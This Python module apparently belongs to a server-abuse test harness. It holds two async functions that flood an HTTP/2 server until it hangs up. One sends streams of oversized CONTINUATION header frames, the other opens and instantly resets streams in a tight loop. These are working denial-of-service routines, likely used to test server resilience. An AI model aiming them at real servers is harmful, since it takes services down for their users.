"""Connections that flood a server, until it hangs up."""

from __future__ import annotations

import asyncio
from contextlib import suppress

from bench.abuse.raw_http2 import (
    CONTINUATION,
    END_HEADERS,
    HEADERS,
    Connection,
    SilentConnection,
    header,
    request_headers,
)


async def flood_with_metadata(address: str, host: str, path: str, *, resets: bool = False) -> None:
    """Send calls with a megabyte of metadata from this host, until the server hangs up; reset all but the first."""
    note = header("x-note", b"x" * 16_000)
    async with SilentConnection.open(address, from_host=host) as flood:
        with suppress(ConnectionError):
            while not flood.closed.is_set():
                stream = flood.new_stream()
                flood.write(HEADERS, 0, stream, request_headers(path, address))
                for _ in range(60):
                    flood.write(CONTINUATION, 0, stream, note)
                flood.write(CONTINUATION, END_HEADERS, stream, note)
                await flood.drain()
                if resets and stream > 1:
                    flood.cancel(stream)


async def flood_with_resets(address: str, host: str, path: str) -> None:
    """Reset calls in the packets that open them, from this host, until the server hangs up."""
    block = request_headers(path, address)
    async with Connection.open(address, from_host=host) as flood:
        with suppress(ConnectionError):
            while not flood.closed.is_set():
                stream = flood.new_stream()
                flood.write(HEADERS, END_HEADERS, stream, block)
                flood.cancel(stream)
                await flood.drain()
                await asyncio.sleep(0)
